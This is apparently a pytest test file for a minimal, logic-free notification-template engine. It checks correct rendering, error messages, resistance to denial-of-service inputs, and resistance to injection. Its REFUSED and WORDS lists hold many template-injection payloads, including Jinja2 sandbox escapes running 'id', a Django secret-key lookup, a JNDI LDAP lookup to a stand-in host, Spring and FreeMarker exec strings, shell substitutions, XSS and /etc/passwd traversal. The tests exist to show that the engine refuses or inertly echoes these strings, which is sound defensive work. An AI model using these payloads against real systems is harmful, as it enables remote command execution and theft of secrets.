"""A team's own words: a language in which nothing can be done but to name a fact."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from notifications import team_templates
from notifications.team_templates import MOST_CHARS, MOST_TEMPLATE_CHARS, NAMES, problem, rendered

FACTS = {name: f"<{name}>" for name in NAMES} | {"runbook": "", "by": ""}

RENDERED = [
    # template, what comes out
    ("", ""),
    ("Plain words.", "Plain words."),
    ("{{monitor.name}}", "<monitor.name>"),
    ("{{ monitor.name }}{{\tteam\n}}", "<monitor.name><team>"),
    ("{{#team}}in {{ team }}{{/team}}!", "in <team>!"),
    ("{{# team }}in {{ team }}{{/ team }}!", "in <team>!"),
    ("{{#runbook}}See {{ runbook }}.{{/runbook}}!", "!"),
    ("{{#team}}a{{#by}}b{{#team}}c{{/team}}d{{/by}}e{{/team}}f", "aef"),
    ("{{#by}}a{{#by}}b{{/by}}c{{/by}}d", "d"),
    ("{{#team}}{{#team}}a{{/team}}b{{/team}}", "ab"),
    ('{"name": "{{ monitor.name }}", "more": {"a": {}}}', '{"name": "<monitor.name>", "more": {"a": {}}}'),
    ("{ {team} } }} { {", "{ {team} } }} { {"),
    ("line\n\n {{team}}\r\n", "line\n\n <team>\r\n"),
]


@pytest.mark.parametrize(("template", "comes_out"), RENDERED)
def test_puts_facts_into_words(template, comes_out):
    assert problem(template) is None
    assert rendered(template, FACTS) == comes_out


def test_takes_a_fact_that_is_not_there_for_an_empty_one():
    assert rendered("a{{team}}b{{#team}}c{{/team}}", {}) == "ab"


@pytest.mark.parametrize("name", NAMES)
def test_knows_every_name_and_its_section(name):
    assert rendered(f"{{{{ {name} }}}}{{{{#{name}}}}}x{{{{/{name}}}}}", {name: "1"}) == "1x"


PROBLEMS = [
    # template, a part of the sentence
    ("{{ monitor.secret }}", "'monitor.secret'. There are: monitor.name, monitor.url,"),
    ("{{ }}", "no placeholder ''"),
    ("{{#nothing}}x{{/nothing}}", "no placeholder 'nothing'"),
    ("{{ monitor.name", "begins no placeholder"),
    ("{{ {{ team }}", "begins no placeholder"),
    (f"{{{{ {'x' * 100} }}}}", "begins no placeholder"),
    ("{{#runbook}}See it.", "{{#runbook}} is not closed"),
    ("{{#team}}{{#by}}x{{/team}}{{/by}}", "{{/team}} closes"),
    ("x{{/team}}", "{{/team}} closes"),
    ("{{#team}}x{{/team}}{{/team}}", "{{/team}} closes"),
    ("x" * (MOST_TEMPLATE_CHARS + 1), "at most 10,000"),
]


@pytest.mark.parametrize(("template", "part"), PROBLEMS)
def test_says_what_is_wrong(template, part):
    said = problem(template)
    assert part in said
    assert len(said.splitlines()) == 1
    with pytest.raises(team_templates.TemplateInvalid):
        rendered(template, FACTS)


# --- what has been tried on engines that can do more ------------------------------------------------------------

# Refused: they ask for something.
REFUSED = [
    # Jinja2, Twig, Nunjucks
    "{{7*7}}",
    "{{ 7*'7' }}",
    "{{ config }}",
    "{{ config.items() }}",
    "{{ self }}",
    "{{ self.__init__.__globals__.__builtins__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ request.application.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ monitor.name.__class__ }}",
    "{{ monitor['name'] }}",
    "{{ monitor.name|attr('__class__') }}",
    "{{ monitor.name|safe }}",
    "{{ _self.env.registerUndefinedFilterCallback('exec') }}",
    "{{ range(1000000000) }}",
    "{{ constructor.constructor('return process')() }}",
    # Django
    "{{ settings.SECRET_KEY }}",
    "{{ messages.storages.0.signer.key }}",
    "{{ text|add:text }}",
    # Liquid (Uptime Kuma, GHSA-vffh-c9pq-4crh and CVE-2026-33130)
    "{{ 'a' | append: 'b' }}",
    "{{ monitor.name | upcase }}",
    # Mustache and Handlebars: partials, delimiters, lambdas, parents, iteration, escapes
    "{{> /etc/passwd }}",
    "{{>../../healthmon/settings}}",
    "{{<parent}}{{/parent}}",
    "{{$block}}{{/block}}",
    "{{=<% %>=}}<% team %>",
    "{{! a comment }}",
    "{{& team }}",
    "{{^team}}x{{/team}}",
    "{{.}}",
    "{{..}}",
    "{{../team}}",
    "{{this}}",
    "{{@root}}",
    "{{#each team}}x{{/each}}",
    "{{#if team}}x{{/if}}",
    "{{#with text as |t|}}{{/with}}",
    "{{#lookup this 'constructor'}}{{/lookup}}",
    "{{{{raw}}}}{{{{/raw}}}}",
    # Go, Smarty, Velocity and others that begin with two braces
    "{{ .Env }}",
    "{{ printf \"%s\" . }}",
    "{{ template \"x\" }}",
    "{{php}}phpinfo();{{/php}}",
    # names that are not quite ours
    "{{ Team }}",
    "{{ team. }}",
    "{{ .team }}",
    "{{ team team }}",
    "{{ te am }}",
    "{{ monitor . name }}",
    "{{ monitor..name }}",
    "{{ monitor }}",
    "{{ ##team }}",
    "{{ t\u0435am }}",  # a Cyrillic letter
    "{{ \uff54eam }}",  # full width
    "{{ te\u200bam }}",  # a space of no width
    "{{ \u202emaet }}",  # from right to left
    "{{ te\u00adam }}",
    "{{ team\0 }}",
    "{{ team\\u0000 }}",
    "{{ __class__ }}",
    "{{ 0 }}",
    "{{ {} }}",
]  # fmt: skip

# Words like any others: they come out as they went in.
WORDS = [
    "{% include '/etc/passwd' %}",
    "{% debug %}",
    "{% load log %}{% get_admin_log 10 as log %}",
    "{% for x in (1..1000000000) %}x{% endfor %}",
    "{% assign a = 'x' %}",
    "{# comment #}",
    "<%= system('id') %>",
    "<%= File.open('/etc/passwd').read %>",
    "<% import os %>",
    "${7*7}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "${jndi:ldap://eve.example/a}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    "#{7*7}",
    "*{7*7}",
    "@{7*7}",
    "~{x}",
    "#set($x=1)$x",
    "$team ${team} $$",
    "%(team)s %s %n %x",
    "{0} {team} {0.__class__} {team.__class__.__init__.__globals__}",
    "{team!r:>1000000000}",
    "\\{\\{ team \\}\\}",
    "&lbrace;&lbrace; team &rbrace;&rbrace;",
    "\uff5b\uff5b team \uff5d\uff5d",  # braces of full width
    "{\u200b{ team }\u200b}",
    "`id` $(id) ; id | id && id",
    "{php}phpinfo();{/php}",
    "[[ team ]] [% team %] <? team ?>",
    "<script>alert(1)</script>",
    "=cmd|'/c calc'!A0",
    "../../../etc/passwd",
    "file:///etc/passwd",
    "\u202emaet\u202c",
]


@pytest.mark.parametrize("template", REFUSED)
def test_refuses_to_be_asked_for_anything_else(template):
    assert problem(template)
    with pytest.raises(team_templates.TemplateInvalid):
        rendered(template, FACTS)


@pytest.mark.parametrize("template", WORDS)
def test_takes_every_other_language_for_words(template):
    assert problem(template) is None
    assert rendered(template, FACTS) == template


@pytest.mark.parametrize("payload", [*REFUSED, *WORDS, "{{ text }}", "{{#team}}", "{{/team}}", "{{"])
def test_never_reads_a_value_as_a_template(payload):
    facts = dict.fromkeys(NAMES, payload)
    assert (
        rendered("a {{ monitor.name }} b{{#detail}}{{ detail }}{{/detail}}", facts)
        == f"a {payload} b{payload}"
    )


def test_has_no_end_that_is_too_far_away():
    """A billion laughs: a value can be named often, but not name another."""
    facts = dict.fromkeys(NAMES, "{{text}}" * 1000)
    laughs = "{{text}}" * (MOST_TEMPLATE_CHARS // len("{{text}}"))
    assert rendered(laughs, facts) == ("{{text}}" * MOST_CHARS)[:MOST_CHARS]


def nested(depth):
    return "{{#by}}" * depth + "x" + "{{/by}}" * depth


# Each would keep a careless pattern or parser busy: backtracking, recursion, quadratic searches.
LONG = [
    "{{" * 5_000,
    "{" * 10_000,
    "}" * 10_000,
    "{{" + " " * 9_998,
    "{{ " * 3_333,
    "{{team" * 1_666,
    "{{#team" * 1_400,
    "{{#team}}" * 1_111,
    "{{/team}}" * 1_111,
    "{{ {{ }} }} " * 800,
    "\n" * 10_000,
    "\u200b" * 10_000,
    nested(700),
    "{{" + "a." * 4_000 + "}}",
    "x" * 10_000_000,
    "{{ team }}" * 1_000_000,
]


@pytest.mark.timeout(60)  # it takes some milliseconds, or for ever
@pytest.mark.parametrize("template", LONG, ids=range(len(LONG)))
def test_is_done_with_the_longest_template_at_once(template):
    for _ in range(20):
        team_templates._parsed.cache_clear()
        problem(template)


PIECES = ["{", "}", "{{", "}}", "#", "/", " ", "team", "by", "x", "\n", "{{team}}", "{{#by}}", "{{/by}}"]


@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_either_says_what_is_wrong_or_renders(template):
    if problem(template) is None:
        assert len(rendered(template, FACTS)) <= MOST_CHARS
    else:
        with pytest.raises(team_templates.TemplateInvalid):
            rendered(template, FACTS)
